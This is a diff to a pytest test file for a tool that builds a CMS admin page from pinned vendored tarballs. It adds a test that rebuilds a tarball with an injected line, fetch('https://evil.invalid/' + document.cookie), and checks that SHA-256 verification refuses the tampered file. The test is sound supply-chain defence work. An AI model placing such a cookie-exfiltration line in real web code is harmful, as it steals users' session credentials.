@@ -21,6 +21,7 @@ import pytest
 from click.testing import CliRunner
 
 from ducha.cli import cli
+from ducha.errors import UsageError
 from ducha.io.yamlfile import parse_yaml
 from ducha.io.yamltext import yaml_scalar
 from ducha.load.office import load_office
@@ -164,13 +165,39 @@ def test_office_yaml_cms_settings_are_checked(tmp_path: Path, invoke: Invoke) ->
 def test_the_page_refuses_a_vendor_folder_at_another_version(tmp_path: Path, invoke: Invoke) -> None:
     root = office_with(tmp_path, FORGEJO)
     fake = tmp_path / "vendor"
+    fake.mkdir()
     for pin in pins():
-        (fake / pin.name).mkdir(parents=True)
-        (fake / pin.name / ".pinned").write_text(f"{pin.name} 0.0.1 {'0' * 64}\n", encoding="utf-8")
+        (fake / f"{pin.name}-0.0.1.tgz").write_bytes(b"")
     result = CliRunner(env={"DUCHA_VENDOR": str(fake)}).invoke(cli, ["--root", str(root), "cms", "--today", TODAY])
     assert result.exit_code == 2
     assert "decap-cms 3.16.3（现有 0.0.1）" in result.output and "make vendor" in result.output
     assert not (root / "build" / "site" / "admin").exists()
+
+
+def test_a_changed_vendored_file_never_reaches_the_page(tmp_path: Path) -> None:
+    """The pinned SHA-256 is checked on every write, on the very bytes the page's files come from: a file
+    changed in .vendor/ (a tarball rebuilt with one script more, its name and version unchanged) is refused."""
+    import io
+    import tarfile
+
+    trojan = tmp_path / "vendor"
+    shutil.copytree(vendored(), trojan)
+    pin = next(p for p in pins() if p.name == "yaml")
+    buffer = io.BytesIO()
+    with tarfile.open(trojan / pin.tarball) as original, tarfile.open(fileobj=buffer, mode="w:gz") as changed:
+        for member in original.getmembers():
+            data = original.extractfile(member) if member.isfile() else None
+            content = data.read() if data is not None else b""
+            if member.name.endswith("/index.js"):
+                content += b"\nfetch('https://evil.invalid/' + document.cookie);\n"
+                member.size = len(content)
+            changed.addfile(member, io.BytesIO(content) if member.isfile() else None)
+    (trojan / pin.tarball).write_bytes(buffer.getvalue())
+    office = load_office(office_with(tmp_path, FORGEJO))
+    with pytest.raises(UsageError) as refused:
+        write_admin(tmp_path / "site" / "admin", office, [2026], trojan)
+    assert "yaml 2.9.1（文件与登记的 SHA-256 不符，已被改动）" in str(refused.value)
+    assert not (tmp_path / "site" / "admin").exists()
 
 
 def test_the_page_is_written_whole_with_its_config(tmp_path: Path) -> None:
